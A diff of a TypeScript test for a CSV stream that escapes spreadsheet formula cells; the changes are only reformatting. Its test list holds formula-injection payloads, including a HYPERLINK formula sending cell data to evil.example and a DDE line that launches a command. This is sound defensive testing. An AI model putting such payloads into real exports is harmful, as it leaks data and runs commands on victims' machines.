@@ -5,14 +5,14 @@ import { csvStream } from "./csv-stream";
 import { neutralizeCell } from "./neutralize-cell";
 
 const HOSTILE = [
-  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
   "+1+2",
   "-2+3",
   "@SUM(A1:A9)",
   "\t=1+1",
   "\r=1+1",
   "=cmd|' /C calc'!A0",
-  "plain, with \"quotes\", commas\nand a newline",
+  'plain, with "quotes", commas\nand a newline',
   "",
 ];
 
@@ -60,11 +60,19 @@ describe("csvStream", () => {
     let counted = -1;
     async function* batches() {
       yield [["1", "=a"]];
-      yield [["2", "b"], ["3", "c"]];
+      yield [
+        ["2", "b"],
+        ["3", "c"],
+      ];
     }
     const stream = csvStream({ header: ["n", "v"], batches: batches(), onDone: (n) => (counted = n) });
     const text = await new Response(stream).text();
-    expect(parse(text.replace(/^\uFEFF/, ""))).toEqual([["n", "v"], ["1", "'=a"], ["2", "b"], ["3", "c"]]);
+    expect(parse(text.replace(/^\uFEFF/, ""))).toEqual([
+      ["n", "v"],
+      ["1", "'=a"],
+      ["2", "b"],
+      ["3", "c"],
+    ]);
     expect(counted).toBe(3);
   });
 });
